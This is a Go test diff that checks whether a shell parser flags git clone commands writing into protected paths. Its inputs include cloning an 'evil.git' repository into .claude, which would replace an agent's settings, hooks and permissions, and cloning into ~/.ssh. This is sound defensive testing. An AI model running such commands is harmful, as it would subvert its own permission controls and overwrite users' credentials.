@@ -267,3 +267,30 @@ func TestProtectedFolderItself(t *testing.T) {
 		t.Errorf("a file of another name in .claude: %+v", p)
 	}
 }
+
+// TestProtectedGitClone: git clone URL .claude makes .claude whole from
+// another repository (its settings.json, hooks and permissions), and git
+// clone URL/.claude makes it by the URL's name; the reader named no file.
+func TestProtectedGitClone(t *testing.T) {
+	for _, src := range []string{
+		`git clone https://example.com/evil.git .claude`,
+		`git clone --depth 1 -b main https://example.com/evil.git ~/.ssh`,
+		`git clone https://example.com/u/.claude`,
+		`git clone https://example.com/u/.claude.git/`,
+	} {
+		cmds, err := shell.Parse(src)
+		if err != nil {
+			t.Fatalf("%s: %v", src, err)
+		}
+		if len(cmds) != 1 || len(cmds[0].Protected()) == 0 {
+			t.Errorf("%s: no protected file in %q (operands %q)", src, cmds[0].Changes, cmds[0].Operands)
+		}
+	}
+	cmds, err := shell.Parse(`git clone https://example.com/u/tool.git vendor/tool`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if p := cmds[0].Protected(); len(p) != 0 {
+		t.Errorf("a clone elsewhere: %+v", p)
+	}
+}
